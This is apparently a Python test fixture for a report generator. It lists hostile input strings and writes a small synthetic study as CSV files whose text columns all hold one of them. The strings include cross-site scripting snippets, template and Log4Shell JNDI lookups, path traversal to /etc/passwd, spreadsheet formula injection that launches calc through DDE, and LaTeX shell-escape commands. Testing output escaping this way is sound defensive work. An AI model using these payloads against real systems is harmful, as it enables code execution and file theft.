"""Names and texts that try to break out of a report, and a study that has one of them in every text column."""

from __future__ import annotations

import csv
import re
import unicodedata
from pathlib import Path

UNBROKEN = "x" * 10_000

HOSTILE: tuple[str, ...] = (
    # markup
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(2)>',
    "' onmouseover='alert(3)' x='",
    "</title></style></bdi></td></table><svg onload=alert(4)>",
    "<!-- --!> <![CDATA[ ]]> <?php ?>",
    "&lt;b&gt; &amp; &#60;i&#62; &quot; &nbsp;",
    "javascript:alert(5)",
    # templates and paths
    "{{7*7}} {% raw %} {title} {0} %s %(x)s ${x} #{x}",
    "${jndi:ldap://example.org/a}",
    "../../../etc/passwd",
    "\ue0000\ue001",
    # Markdown
    "[klikk](javascript:alert(6))",
    "![bilde](https://example.org/x.png)",
    "<https://example.org> https://example.org/?a=1&b=2 www.example.org navn@example.org",
    "[^1] [@key] @key [ref]: https://example.org",
    "# Overskrift",
    "- punkt",
    "1. punkt",
    "1) punkt",
    "> sitat",
    "---",
    "``` `kode` ~~~",
    "*stjerner* **fet** _kursiv_ ~~strøk~~ ==merket== H~2~O x^2^",
    ":::note \\\\ :smile: {.class #id} <span>",
    "| a | b |",
    # spreadsheets
    '=HYPERLINK("https://example.org","klikk")',
    "=1+1",
    "+1+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1+1)",
    "{=MAX(A1:A2)}",
    "\uff1d1+1",
    "\u200b=1+1",
    "a;=1+1;b,=2+2\t=3+3",
    "_x0041_ _x000D_",
    # LaTeX
    "\\input{/etc/passwd}\\write18{ls}",
    "\\end{tabular}\\begin{evil} \\\\[2cm] \\verb|x|",
    "$x^2$ og $$y$$ 100 % sikkert % resten",
    "~^_#&{}[]*`´'\"<>|\\",
    # scripts, directions and marks
    "שלום עולם",
    "مرحبا (٣) - abc",
    "abc\u202edcba\u202c",
    "\u2067åpen og aldri lukket",
    "lukket \u2069\u2069 for tidlig \u202c",
    "a\u200bb\u200dc\ufeffd\u2060e\u00ad",
    "\U0001f469\u200d\U0001f469\u200d\U0001f467 \U0001f3f3\ufe0f\u200d\U0001f308 \U0001f1f3\U0001f1f4",
    "Z\u0351\u036b\u0343A\u0334\u0335\u031cLGO\u0321",
    "Čearvi Ŧ Ŋ đ « Åse & Sønner » – “Ærø” … €",
    # lengths, control characters, lines
    UNBROKEN,
    "a\x01b\x07c\x1bd\x7fe\x85f\x0bg",
    "\ufffe\uffff\U0001ffff",
    "linje en\nlinje to\n\n=1+1",
    "  mellom\u00a0rom \t ",
    # what programs take for something else
    "None",
    "nan",
    "-inf",
    "007",
    "1e5",
    "31.12.2024",
    '"',
    "'",
)


def visible(text: str) -> str:
    """A text by what can be seen of it: white space as one blank, without marks that have no width and controls."""
    seen = "".join(letter for letter in unicodedata.normalize("NFC", text) if letter.isspace() or unicodedata.category(letter) not in ("Cc", "Cf", "Cn") and letter != "\ufffd")
    return re.sub(r"\s+", " ", seen).strip()


SECTORS = (("public", 5), ("civil", 5), ("users", 2))


def write_study(folder: Path, text: str) -> Path:
    """A small study, with names of actors and everything, whose text columns all hold `text`.

    Where a name must differ from others a number follows it.
    """
    folder.mkdir(parents=True)

    def named(number: int) -> str:
        return f"{text}{number}"

    sector = [named(place) for place, (_, size) in enumerate(SECTORS, 1) for _ in range(size)]
    # A cell that lists actors is split at | and ;, so one of them has a plain id.
    actors = ["plain", *(named(10 + place) for place in range(1, len(sector)))]
    everybody = range(len(actors))
    waves, relation, event = (named(90), named(91)), named(80), named(70)
    tables: dict[str, list[list[object]]] = {
        "study": [["key", "value"], ["title", text], ["contact", text], ["boundary", text]],
        "sectors": [["sector", "label", "kind"], *([named(place), named(place), kind] for place, (kind, _) in enumerate(SECTORS, 1))],
        "actors": [["id", "name", "sector"], *([actors[one], named(10 + one), sector[one]] for one in everybody)],
        "people": [["person", "actor", "role"], *([named(30 + one), actors[one], text] for one in everybody)],
        "waves": [["id", "label"], *([wave, wave] for wave in waves)],
        "relations": [["id", "label", "question"], [relation, relation, text]],
        "ties": [["from", "to", "relation", "wave"],
                 *([actors[one], actors[(one + step) % len(actors)], relation, wave] for wave in waves for one in everybody for step in (1, 2, 5))],
        "events": [["id", "kind", "title", "written_by"], *([f"{event}{n}", "meeting", text, actors[0]] for n in range(4))],
        "attendance": [["event", "actor"], *([f"{event}{n}", actors[one]] for n in range(4) for one in everybody if (one + n) % 3)],
        "turns": [["event", "actor", "turns"], *([f"{event}{n}", actors[one], 1 + one] for n in range(4) for one in everybody if (one + n) % 3)],
        "proposals": [["id", "event", "text", "proposed_by"], [named(60), f"{event}0", text, actors[0]]],
        "decisions": [["id", "event", "text"], [named(61), f"{event}0", text]],
        "resources": [["actor", "resource"], [actors[0], text]],
        "goals": [["actor", "goal"], [actors[0], text]],
        "ratings": [["rater", "item", "score"], [actors[0], text, 3]],
        "claims": [["text", "source", "criterion"], [text, text, 6]],
        "information": [["what", "actor", "received"], [text, actors[0], "yes"]],
        "outcomes": [["claim", "indicator", "evidence", "owner"], [text, text, text, actors[0]]],
        "quotes": [["text", "sector", "source"], [text, named(1), text]],
    }  # fmt: skip
    for name, rows in tables.items():
        with (folder / f"{name}.csv").open("w", encoding="utf-8", newline="") as stream:
            csv.writer(stream).writerows(rows)
    return folder
